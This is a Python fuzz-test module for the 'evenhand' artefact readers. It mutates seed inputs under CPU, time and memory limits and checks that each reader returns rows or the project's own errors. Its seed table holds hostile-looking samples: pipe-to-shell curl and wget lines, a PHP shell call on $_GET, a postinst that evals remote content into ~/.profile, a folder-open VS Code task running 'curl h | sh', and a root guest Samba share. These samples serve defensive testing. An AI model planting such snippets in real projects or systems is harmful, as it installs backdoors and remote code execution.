"""Fuzzing of every reader: changed bytes of real and made inputs end in rows or in our errors.

`EVENHAND_FUZZ` is the number of inputs for each reader, `EVENHAND_FUZZ_SEED` chooses others. In
the folder `EVENHAND_FUZZ_DONE` the inputs that a reader has passed are counted, and it goes on from
there the next time; `make fuzz` does so, and `make fuzz READER=pcap` for one reader alone.

Any exception of another kind is a fault of the reader, even though the pipeline would make a row of
it; so is one input that takes more than `SECONDS` of processor time, or more memory than the
process that reads is granted, or makes it wait for `WAIT` s: for a thread, a lock. Inputs lie in
memory and are read in this process.

Spec: DESIGN (Reading what may be hostile).
"""

from __future__ import annotations

import functools
import importlib
import json
import os
import random
import resource
import signal
import sys
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from types import FrameType
from typing import Any

import pytest

from evenhand.artefact import Artefact, Child
from evenhand.discovery import readers
from evenhand.errors import EvenhandError
from evenhand.limits import Limits
from evenhand.readers import Read
from evenhand.recognise import readers_for
from evenhand.traffic import lines
from tests.bad_input.make import ar, member, tarred
from tests.native.made import AARCH64, X86_64, program
from tests.readers import archive_seeds, inventory_seeds, phone_seeds
from tests.readers.cpio.test_cpio import newc, odc
from tests.readers.reading import SHARED, pull
from tests.readers.rpm.test_rpm import TAGS, package

INPUTS = int(os.environ.get("EVENHAND_FUZZ", "150"))
CHOICE = os.environ.get("EVENHAND_FUZZ_SEED", "")
DONE = os.environ.get("EVENHAND_FUZZ_DONE")
PIECE = 10_000  # inputs that one seed of chance gives
SECONDS = 5
WAIT = 120
SEED_BYTES = 30_000  # larger inputs are slow to change often
SEEDS = 12  # for one reader
CHILD_BYTES = 1 << 16
MAPPED = "inventory"  # reads what the user gave a mapping for
BLOCKS: tuple[Any, ...] = (lines.blocks, lines.parsed_apart)  # of logs
ODD: tuple[bytes, ...] = (
    b"\0",
    b"\xff",
    b"\x7f\xff\xff\xff",
    b"\x80\0\0\0",
    b"\xff" * 8,
    b"\r\n",
    b'"',
    b"{",
    b"[",
)
ODD += (b"-1", b"99999999999999999999", b"1e999", b"\xed\xa0\x80", b"\xef\xbb\xbf", b"null", b"../")
PACKAGE_JSON = (
    b'{"name": "@a/b", "version": "1.2", "author": {"name": "A"}, "scripts": {"install": "x"}}'
)
CONTROL = b"Package: hello\nVersion: 2.10-3\nArchitecture: amd64\nMaintainer: A <a@b.example>\n"
RANGES = {
    "aws.json": {
        "syncToken": "1",
        "createDate": "2026-01-01-00-00-00",
        "prefixes": [{"ip_prefix": "192.0.2.0/24", "region": "xx-1", "service": "S",
                      "network_border_group": "xx-1"}],
        "ipv6_prefixes": [{"ipv6_prefix": "2001:db8::/32", "region": "GLOBAL", "service": "S",
                           "network_border_group": "GLOBAL"}],
    },
    "gcp.json": {
        "syncToken": "1",
        "creationTime": "2026-01-01T00:00:00",
        "prefixes": [{"ipv4Prefix": "192.0.2.0/24", "service": "S", "scope": "xx-1"},
                     {"ipv6Prefix": "2001:db8::/32", "service": "S", "scope": "global"}],
    },
    "azure.json": {
        "changeNumber": 1,
        "cloud": "Public",
        "values": [{"name": "S.x", "id": "S.x", "properties": {
            "changeNumber": 1, "region": "x", "systemService": "S",
            "addressPrefixes": ["192.0.2.0/24", "2001:db8::/32"]}}],
    },
    "fastly.json": {"addresses": ["192.0.2.0/24"], "ipv6_addresses": ["2001:db8::/32"]},
    "cloudflare.json": {"result": {
        "ipv4_cidrs": ["192.0.2.0/24"], "ipv6_cidrs": ["2001:db8::/32"], "etag": "1"}},
}  # fmt: skip
MADE = {
    **{name: json.dumps(document).encode() for name, document in RANGES.items()},
    "geofeed.csv": b"# A\n192.0.2.0/24,XA,XA-1,City,\n2001:db8::/32,XB,,,\n",
    "hello.tar": tarred([member("a"), member("b", b"2", "a"), member("n" * 150)], {"a": b"12345"}),
    "hello.deb": ar([("debian-binary", b"2.0\n"), ("control.tar.gz", b"1"), ("data.tar.gz", b"2")]),
    "x86_64.elf": program(X86_64),
    "aarch64.elf": program(AARCH64),
    "control": CONTROL,
    "gate.8": b'.SH X\nThe account "a" logs in by ssh on port 22;\n.B \\-\\-no\\-a\nstops it.\n',
    "config.json": b'{"rootfs": {"diff_ids": ["sha256:%b"]}, "history": [{}]}' % (b"0" * 64),
    "METADATA": b"Metadata-Version: 2.1\nName: hello\nVersion: 1\nAuthor: A\n\nText\n",
    "package.json": PACKAGE_JSON,
    "ramdisk.cpio": newc("a", b"12345") + newc("TRAILER!!!") + bytes(9) + odc("b", b"1"),
    "hello.rpm": package(TAGS),
    "keys.log": b"# TLS secrets\nCLIENT_RANDOM %b %b\n" % (b"0a" * 32, b"1B" * 48),
    **archive_seeds.MADE,
    **phone_seeds.MADE,
    "hello.py": b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl|sh')",
    "postinst": b'#!/bin/sh\nset -e\nX=$(curl -s h | base64 -d)\neval "$X" >> ~/.profile\n',
    "a.php": b"<?php $f = strrev('metsys'); $f($_GET['x']); eval(base64_decode('ZWNobyAxOw=='));\n",
    "a.lua": b"local s = string.char(112, 49)\nload(s)()\nos.execute('wget -qO- h | sh')\n",
    "tool": b"#!/usr/bin/env python3\nimport os\nos.system(eval(input()))\n",
    "build.rs": b'fn main() { let k = std::env::vars(); Command::new("sh").arg("-c").spawn(); }',
    "extconf.rb": b"require 'mkmf'\nx = `ls #{ENV['A']}`\n"
    b'File.write("a", URI.open(x).read)\nspawn(x)\n',
    "init.rc": b"on boot\n setprop a b\n exec - root -- /b\nservice q /bin/sh\n user root\n",
    "etc/samba/smb.conf": b"[global]\n[a$]\npath = /\nguest ok = yes\nforce user = root\n",
    "rpcd/acl.d/a.json": b'{"unauthenticated": {"read": {"file": {"/*": ["exec"]}, "uci": ["a"]}}}',
    ".vscode/tasks.json": b'{"tasks": [{"label": "a", "type": "shell", "command": "curl h | sh",'
    b' "args": ["-s"], "runOptions": {"runOn": "folderOpen"}}]}',
    "hello.js": b"const {x: y} = require('child_process'); eval(atob('YWxlcnQoMSk=')); y(`a${1}`)",
}


def _files(folder: Path) -> Iterator[tuple[str, Path]]:
    for name, data in MADE.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        yield name, path
    for place in (SHARED / "data", Path(__file__).parents[2] / "examples"):
        for path in sorted(place.rglob("*")):
            if path.is_file() and 0 < path.stat().st_size <= SEED_BYTES:
                yield path.name, path


@functools.cache
def seeds(folder: Path) -> dict[str, list[tuple[str, bytes]]]:
    """Reader → inputs that it recognises: small and not all alike."""
    found: dict[str, list[tuple[str, Path]]] = {}
    for name, path in _files(folder):
        artefact = Artefact(name, path, "sha256:" + "0" * 64, path.stat().st_size)
        for reader in readers_for(artefact)[0]:
            found.setdefault(reader.name, []).append((name, path))
    return {
        reader: [(name, path.read_bytes()) for name, path in _unlike(every)]
        for reader, every in found.items()
    } | {MAPPED: [(path.name, path.read_bytes()) for path in inventory_seeds.files(folder)]}


def _unlike(every: list[tuple[str, Path]]) -> list[tuple[str, Path]]:
    """Some files, of as many different openings (forms, byte orders) as there are."""
    met: Counter[bytes] = Counter()
    ranked = []
    for name, path in random.Random(1).sample(every, len(every)):
        with path.open("rb") as stream:
            opening = stream.read(4)
        ranked.append((met[opening], name, path))
        met[opening] += 1
    return [one[1:] for one in sorted(ranked, key=lambda one: one[0])[:SEEDS]]


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[tuple[str, bytes]]]:
    """The seeds of every reader."""
    return seeds(tmp_path_factory.mktemp("seeds"))


def mutated(data: bytes, chance: random.Random) -> bytes:
    """Bytes changed, put in, taken out, doubled, or the end cut off."""
    raw = bytearray(data)
    for _ in range(chance.choice((1, 1, 2, 4, 16))):
        at = chance.randrange(len(raw) + 1)
        length = chance.choice((1, 2, 4, 8, 64))
        match chance.randrange(6):
            case 0:
                raw[at : at + 1] = bytes([chance.randrange(256)])
            case 1:
                odd = chance.choice(ODD)
                raw[at : at + len(odd)] = odd
            case 2:
                raw[at:at] = chance.choice(ODD)
            case 3:
                del raw[at : at + length]
            case 4:
                raw[at:at] = raw[at : at + length] * chance.choice((1, 3, 50))
            case _:
                raw[at : at + 1] = (
                    bytes([raw[at] ^ (1 << chance.randrange(8))]) if raw[at:] else b""
                )
    return bytes(raw[: chance.randrange(len(raw) + 1)]) if chance.random() < 0.2 else bytes(raw)


class Fault(BaseException):
    """Not to be caught by a reader that expects failures of other kinds."""


def _too_long(number: int, frame: FrameType | None) -> None:
    waited = number == signal.SIGALRM
    raise Fault(
        f"one input took more than {WAIT if waited else SECONDS} s"
        + " of processor time" * (not waited)
    )


@contextmanager
def _bounds() -> Iterator[None]:
    """As much more memory as a process that reads has, and a clock that counts its own work."""
    soft, hard = resource.getrlimit(resource.RLIMIT_DATA)
    status = Path("/proc/self/status").read_text()
    used = int(status.partition("VmData:")[2].split()[0]) << 10
    resource.setrlimit(resource.RLIMIT_DATA, (used + Limits().memory_bytes, hard))
    before = {n: signal.signal(n, _too_long) for n in (signal.SIGPROF, signal.SIGALRM)}
    try:
        yield
    finally:
        _clocks(0, 0)
        for number, handler in before.items():
            signal.signal(number, handler)
        resource.setrlimit(resource.RLIMIT_DATA, (soft, hard))


def _clocks(work: float, wait: float) -> None:
    """Set the clock that counts work, and the one that counts all time; 0 stops one."""
    signal.setitimer(signal.ITIMER_PROF, work)
    signal.setitimer(signal.ITIMER_REAL, wait)


def _read(read: Read, name: str, data: bytes) -> None:
    """Read one input from a file in memory, a new one each time: readers map what they read."""
    handle = os.memfd_create(name[:200])
    try:
        os.write(handle, data)
        file = Path(f"/proc/self/fd/{handle}")
        _clocks(SECONDS, WAIT)
        for item in read(Artefact(name, file, "sha256:" + "0" * 64, len(data))):
            if isinstance(item, Child):
                pull(item, CHILD_BYTES)
    except EvenhandError:
        pass
    finally:
        _clocks(0, 0)
        os.close(handle)


@pytest.mark.parametrize("reader", readers())
def test_mutated_inputs(
    reader: str,
    corpus: dict[str, list[tuple[str, bytes]]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if reader not in corpus and not SHARED.exists():
        pytest.skip("no folder of real data beside the project")
    assert corpus.get(reader), f"no input for {reader}: add one to the examples or to MADE"
    read = importlib.import_module(f"evenhand.readers.{reader}").read
    if reader == MAPPED:
        told = inventory_seeds.told(tmp_path)
        read = lambda one, own=read: own(replace(one, mappings=told))  # noqa: E731
    for blocks in BLOCKS:
        monkeypatch.setattr(blocks, "__defaults__", blocks.__defaults__)
    keep = Path(os.environ.get("EVENHAND_FUZZ_KEEP", tmp_path))
    with _bounds():
        for start in range(_passed(reader), INPUTS, PIECE):
            stop = min(start + PIECE, INPUTS)
            _piece(read, corpus[reader], range(start, stop), keep / f"{reader}.{start}")
            _pass(reader, stop)


def _piece(read: Read, every: list[tuple[str, bytes]], numbers: range, keep: Path) -> None:
    """Read some inputs; one that is a fault is kept, in a file whose name ends in its number."""
    chance = random.Random(keep.name + CHOICE)
    for number in numbers:
        size = lines.BLOCK_BYTES if number % 3 else chance.choice((16, 200, 1000))
        for blocks in BLOCKS:
            blocks.__defaults__ = (size,)
        name, data = chance.choice(every)
        changed = mutated(data, chance)
        try:
            _read(read, name, changed)
        except BaseException:
            keep.with_name(f"{keep.name}.{number}").write_bytes(changed)
            raise


def _passed(reader: str) -> int:
    """How many inputs the reader has passed, by the count that is kept."""
    file = Path(DONE or os.devnull) / reader
    return int(file.read_text()) if DONE and file.exists() else 0


def _pass(reader: str, count: int) -> None:
    """Keep the count, and say it."""
    if DONE:
        (Path(DONE) / reader).write_text(f"{count}\n")
        print(f"{reader}: {count:,} of {INPUTS:,} inputs", file=sys.stderr, flush=True)
